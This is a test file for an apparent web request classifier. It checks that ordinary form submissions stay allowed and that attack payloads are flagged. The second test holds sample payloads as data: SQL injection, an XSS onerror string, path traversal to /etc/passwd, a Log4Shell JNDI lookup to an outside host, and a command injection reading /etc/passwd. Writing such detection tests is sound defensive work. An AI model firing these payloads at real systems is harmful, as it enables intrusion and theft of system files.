// Counterfactual tests: a legitimate request keeps its verdict when something that is not evidence
// changes (its body's format, its route, the digits in its email, whether the visitor is new), and
// a real payload is found whatever the session around it. Browsers' headers are real captures
// (data/clients), the texts real kinds of input people send.
import { test } from 'node:test'
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { Memory, Refiner } from '../index.mjs'
import { ROOT } from './fixtures.mjs'

const capture = (name) => JSON.parse(readFileSync(`${ROOT}/data/clients/${name}.json`, 'utf8'))
/** A captured browser's headers for a request of `kind`, minus the body headers the test sets. */
const headersOf = (name) => capture(name).headers.filter(([n]) => !/^(content-type|content-length|host)$/i.test(n)).concat([['host', 'shop.example']])
const BROWSERS = ['chromium-headful--form-post', 'firefox-esr-headful--form-post', 'chromium-headful--fetch', 'firefox-esr-headful--fetch']

const allow = {
  conclusion: 'ALLOW',
  reason: { type: 'RATE_LIMIT', max: 60, remaining: 55 },
  results: [
    { state: 'RUN', conclusion: 'ALLOW', reason: { type: 'SHIELD', shieldTriggered: false } },
    { state: 'RUN', conclusion: 'ALLOW', reason: { type: 'BOT', allowed: [], denied: [], verified: false, spoofed: false } },
    { state: 'RUN', conclusion: 'ALLOW', reason: { type: 'RATE_LIMIT', max: 60, remaining: 55 } },
  ],
  ip: { country: 'FR' },
}

const FIELDS = [
  { name: "Siobhán O'Brien", address: "12 Rue de l'Église, 75004 Paris", note: "Leave it with the concierge; I'm out until 6 o'clock" },
  { name: 'D\'Angelo Smith-Jones', address: '1600 Amphitheatre Pkwy #4, Mountain View', note: 'Select your size: S, M or L — and drop the gift wrap' },
  { name: 'Zoë Müller', address: 'Straße des 17. Juni 135, Berlin', note: 'Bitte „vor die Tür“ stellen (Hinterhof, 2. OG)' },
  { name: '田中 太郎', address: '東京都千代田区1-1', note: 'よろしくお願いします 🙏' },
  { name: 'Sam', address: 'PO Box 3 & 4', note: 'My script fails: `SELECT * FROM orders WHERE id = 3` returns nothing. Any idea?' },
]
const EMAILS = ['anna.smith@gmail.com', 'anna.smith1987@gmail.com', 'j.obrien42@outlook.com', 'a1b2c3@proton.me']
const ROUTES = [['/signup', 'signup'], ['/login', 'login'], ['/checkout', 'checkout'], ['/contact', 'other']]

const formBody = (f) => new URLSearchParams(f).toString()
function request(browser, path, fields, email, format) {
  const body = { ...fields, email }
  const headers = [...headersOf(browser), ['content-type', format === 'json' ? 'application/json' : 'application/x-www-form-urlencoded']]
  return { ip: '203.0.113.40', method: 'POST', path, headers, email, body: format === 'json' ? body : formBody(body) }
}

test('a legitimate form keeps ALLOW whatever its body format, route, email digits and session age', () => {
  const memory = new Memory({ secret: 'counterfactual test secret' })
  const refiners = Object.fromEntries(['default', 'signup', 'login', 'checkout'].map((p) => [p, new Refiner({ profile: p, memory })]))
  let n = 0
  for (const browser of BROWSERS)
    for (const fields of FIELDS)
      for (const email of EMAILS)
        for (const [path, route] of ROUTES)
          for (const format of ['form', 'json'])
            for (const context of [{ route, sessionAgeS: 20, sessionRequests: 1, pagesSeen: 1 }, { route, sessionAgeS: 900, sessionRequests: 14, pagesSeen: 6, loggedIn: true, accountAgeDays: 300 }]) {
              const d = refiners[route === 'other' ? 'default' : route].refine(allow, { request: request(browser, path, fields, email, format), context })
              n++
              assert.equal(d.conclusion, 'ALLOW', `${browser} ${format} ${route} ${email} ${JSON.stringify(fields)}: ${d.conclusion} ${d.basis} ${JSON.stringify(d.threats)} ${d.reasons.map((r) => r.feature).join(',')}`)
            }
  assert.equal(n, BROWSERS.length * FIELDS.length * EMAILS.length * ROUTES.length * 2 * 2)
})

test('a real payload is found whatever the session around it: new or old, anonymous or logged in', () => {
  const payloads = [
    ['comment', "1' AND 1=1 UNION ALL SELECT NULL,CONCAT(0x7176,0x71),NULL-- -"],
    ['comment', '"><img src=x onerror=confirm(document.domain)>'],
    ['file', '../../../../../../etc/passwd'],
    ['name', '${jndi:ldap://203.0.113.9:1389/a}'],
    ['host', '; cat /etc/passwd #'],
  ]
  const sessions = [
    { route: 'other' },
    { route: 'other', sessionAgeS: 5, sessionRequests: 0, pagesSeen: 0 },
    { route: 'checkout', sessionAgeS: 3600, sessionRequests: 80, pagesSeen: 30, loggedIn: true, accountAgeDays: 2000, emailVerified: true, cartValue: 250 },
  ]
  for (const [field, payload] of payloads)
    for (const context of sessions)
      for (const format of ['form', 'json']) {
        const refiner = new Refiner({ profile: context.route === 'checkout' ? 'checkout' : 'default', memory: false })
        const req = request('chromium-headful--form-post', '/contact', { [field]: payload }, 'anna.smith@gmail.com', format)
        const d = refiner.refine(allow, { request: req, context })
        assert.notEqual(d.conclusion, 'ALLOW', `${payload} in ${format} with ${JSON.stringify(context)}`)
        assert.ok(d.reasons.some((r) => r.evidence && r.feature.startsWith('payload.')), `${payload}: ${d.reasons.map((r) => r.feature)}`)
      }
})
